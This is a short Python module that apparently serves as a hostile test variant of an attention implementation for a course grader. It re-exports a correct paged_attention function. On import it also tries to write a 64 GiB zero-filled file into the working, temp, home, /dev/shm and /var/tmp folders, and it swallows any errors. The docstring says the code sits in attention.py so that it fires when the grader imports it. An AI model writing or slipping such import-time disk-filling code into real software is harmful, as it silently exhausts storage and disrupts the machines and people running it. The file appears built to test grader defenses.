"""Overlay on correct/: at import, writes until the disk is full, in every folder it may write to;
otherwise correct. The attack sits in attention.py because the grader imports the Week 3 modules without
running the package's __init__."""

import os
import tempfile

from .honest_attention import paged_attention  # noqa: F401

for folder in (os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/dev/shm", "/var/tmp"):
    try:
        with open(os.path.join(folder, "filler.bin"), "wb") as filler:
            block = b"\0" * (1 << 20)
            for _ in range(1 << 16):
                filler.write(block)
    except OSError:
        pass
